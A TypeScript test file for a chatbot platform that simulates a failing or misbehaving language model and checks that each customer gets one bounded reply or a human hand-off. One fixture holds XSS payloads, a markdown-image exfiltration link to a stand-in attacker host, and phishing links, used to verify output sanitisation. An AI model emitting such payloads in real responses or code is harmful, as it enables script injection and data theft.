import { writeFileSync } from 'node:fs';
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BotDefinition, uuidOf, type TraceStep } from '#libs/model';
import { freePort, Bots } from '#libs/store';
import { startStubServer, type StubServer } from '../../libs/connectors/src/testkit/stub-server.js';
import { apiOf, boot, makeWorkspace, type Api, type Booted, type TestWorkspace } from '../support/boot.js';
import { beginTalk } from '../support/talk.js';
import { until } from '../support/until.js';

/** Where the table of what became of each is written, for somebody who wants to read it. */
const tablePath = process.env['PARLEY_TRACE_FILE'];

/** The settings that promise an answer or a person within five seconds. */
const limits = { silence_ms: 4_000, seconds: 5, steps: 4, tokens: 20_000, reply_characters: 500 };
const promiseMs = 5_000;

const chunk = (delta: object, finish: string | null = null): string =>
  `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
const begin = (response: ServerResponse): void =>
  void response.writeHead(200, { 'content-type': 'text/event-stream' });
const says =
  (text: string) =>
  async (response: ServerResponse): Promise<void> => {
    begin(response);
    for (let at = 0; at < text.length; at += 4_000)
      response.write(chunk({ content: text.slice(at, at + 4_000) }));
    response.end(`${chunk({}, 'stop')}data: [DONE]\n\n`);
  };
const callsTool =
  (name: string, input: object) =>
  async (response: ServerResponse): Promise<void> => {
    begin(response);
    const call = {
      index: 0,
      id: crypto.randomUUID(),
      type: 'function',
      function: { name, arguments: JSON.stringify(input) },
    };
    response.end(
      `${chunk({ role: 'assistant', tool_calls: [call] })}${chunk({}, 'tool_calls')}data: [DONE]\n\n`,
    );
  };
/** Writes for ever, until the other side has had enough. */
const forEver =
  (piece: string, everyMs: number) =>
  async (response: ServerResponse): Promise<void> => {
    begin(response);
    while (!response.destroyed) {
      response.write(piece);
      await sleep(everyMs);
    }
  };

const hostile = `<script>alert(1)</script><img src=x onerror=alert(2)> Please send it to +4915799999999 and eve@evil.example.
![x](https://evil.example/steal?q=secret) See [here](https://evil.example/login) and https://evil.example/pay.`;

type Ending = 'person' | 'agent';
/** How a model can behave, and who must have the word then. */
const cases: readonly (readonly [string, Ending, ((response: ServerResponse) => Promise<void>) | null])[] = [
  ['is not there', 'person', null],
  ['answers 503', 'person', async (response) => void response.writeHead(503).end('down')],
  ['answers 429', 'person', async (response) => void response.writeHead(429).end('{}')],
  ['refuses its key', 'person', async (response) => void response.writeHead(401).end('{}')],
  ['says nothing', 'person', async () => undefined],
  ['keeps the line open and says nothing', 'person', forEver(': wait\n\n', 100)],
  [
    'hangs up in the middle',
    'person',
    async (response) => {
      begin(response);
      response.write(chunk({ content: 'Half of' }));
      await sleep(20);
      response.destroy();
    },
  ],
  [
    'falls silent in the middle',
    'person',
    async (response) => {
      begin(response);
      response.write(chunk({ content: 'Half of' }));
    },
  ],
  [
    'sends rubbish',
    'person',
    async (response) => {
      begin(response);
      response.end('data: {"choices": [{]\n\ndata: \u0000\n\n');
    },
  ],
  ['says nothing at all, politely', 'person', says('')],
  ['writes a megabyte', 'agent', says('word '.repeat(200_000))],
  ['writes for ever', 'agent', forEver(chunk({ content: 'and so on ' }), 1)],
  ['writes HTML, images, links and other recipients', 'agent', says(hostile)],
  [
    'calls a tool that does not exist',
    'person',
    callsTool('send_message', { to: '+4915799999999', text: 'hi' }),
  ],
  ['calls a tool for ever', 'person', callsTool('search_orders', { order: '1' })],
];

interface Row {
  name: string;
  answeredBy: string;
  owner: string;
  tookMs: number;
  said: string;
  why: string;
}

let booted: Booted;
let home: TestWorkspace;
let api: Api;
let server: Server;
let shop: StubServer;
let behaves: (response: ServerResponse) => Promise<void> = async () => undefined;
const table: Row[] = [];

beforeAll(async () => {
  shop = await startStubServer();
  shop.answerWith({
    kind: 'answer',
    status: 200,
    headers: { 'content-type': 'application/json' },
    body: '{}',
  });
  server = createServer((request, response) => {
    request.resume();
    request.on('end', () => void behaves(response).catch(() => response.destroy()));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  booted = await boot();
});
afterAll(async () => {
  const width = Math.max(...table.map(({ name }) => name.length));
  const lines = table.map(
    ({ name, answeredBy, owner, tookMs, said, why }) =>
      `${name.padEnd(width)} | ${answeredBy.padEnd(8)} | ${owner.padEnd(5)} | ${String(Math.round(tookMs)).padStart(5)} ms | ${why} | ${said}`,
  );
  if (tablePath !== undefined) {
    writeFileSync(
      tablePath,
      `the model … | answered by | owner | took by the trace | the model in the trace | what was said\n${lines.join('\n')}\n`,
    );
  }
  await booted?.close();
  await shop?.close();
  server?.closeAllConnections();
  await new Promise((resolve) => server?.close(resolve));
});

/** A bot of its own for each: a model that failed three times in a row would rest. */
async function useModel(name: string, url: string): Promise<void> {
  home = await makeWorkspace(booted, name);
  api = apiOf(booted, home.key);
  const definition = BotDefinition.parse({
    persona: { name: 'Robin' },
    tools: [
      {
        name: 'orders.find',
        description: 'Finds an order.',
        method: 'GET',
        url: `${shop.url}/orders/{order}`,
        input: { type: 'object', properties: { order: { type: 'string' } }, required: ['order'] },
      },
    ],
    agent: {
      models: [{ provider: 'openai_compatible', name: name.replaceAll(' ', '-'), base_url: url }],
      tools: [{ tool: 'search_orders' }],
      limits,
    },
    fallback: [{ type: 'text', text: 'A colleague will answer.' }],
    fallback_hands_over: true,
  });
  await booted.gateway.get(Bots).publish(home.workspaceId, home.botId, { definition, actor: 'system' });
}

describe('a model that', () => {
  it.each(cases)(
    '%s leaves the person with an answer or with a colleague',
    async (name, ending, how) => {
      if (how) behaves = how;
      const port = how ? (server.address() as AddressInfo).port : await freePort();
      await useModel(name, `http://127.0.0.1:${port}/v1`);
      const talk = await beginTalk(api, home.channelId, { external_id: crypto.randomUUID() });
      await talk.say('Can you help me with my bicycle?');
      const trace = await until(
        'the turn has ended',
        async () => {
          const { rows } = await booted.owner.query<{ trace: TraceStep[] }>(
            'select trace from turn where conversation_id = $1',
            [uuidOf(talk.conversationId)],
          );
          return rows[0]?.trace;
        },
        20_000,
      );
      const lines = await talk.lines();
      const said = lines.filter((line) => line.startsWith('bot: '));
      const owner = (await api('GET', `/v1/conversations/${talk.conversationId}`)).body.owner as string;
      const steps = trace.filter(({ decision }) => decision !== 'noted');
      const answeredBy = steps.find(
        ({ decision, detail }) => decision === 'answered' && !detail['review'],
      )!.responder;
      const agent = steps.find(({ responder }) => responder === 'agent')!;
      const noted = trace.filter(({ responder, decision }) => responder === 'agent' && decision === 'noted');
      table.push({
        name,
        answeredBy,
        owner,
        tookMs: agent.took_ms,
        said: said.join(' ').slice(5, 85).replaceAll('\n', ' '),
        why: [
          (noted.at(-1)?.reason ?? agent.reason).replace(/openai_compatible\/\S+/, '…'),
          `calls ${String(agent.detail['model_calls'] ?? 0)}`,
        ].join(', '),
      });
      expect(said).toHaveLength(1);
      expect([answeredBy, owner]).toEqual(ending === 'agent' ? ['agent', 'bot'] : ['fallback', 'queue']);
      expect(said[0]!.length).toBeLessThanOrEqual(limits.reply_characters + 50);
      expect(said[0]).not.toMatch(/<\w|!\[|evil\.example\/|onerror/);
      expect(Number(agent.detail['model_calls'] ?? 0)).toBeLessThanOrEqual(limits.steps);
      // By the settings it cannot take longer than what they promise: the first word and the whole are bounded.
      expect(Math.max(limits.silence_ms, limits.seconds * 1_000)).toBeLessThanOrEqual(promiseMs);
      const { rows } = await booted.owner.query<{ account: string; destination: string }>(
        'select distinct destination from delivery where conversation_id = $1',
        [uuidOf(talk.conversationId)],
      );
      expect(JSON.stringify(rows)).not.toMatch(/4915799999999|evil/);
    },
    40_000,
  );
});
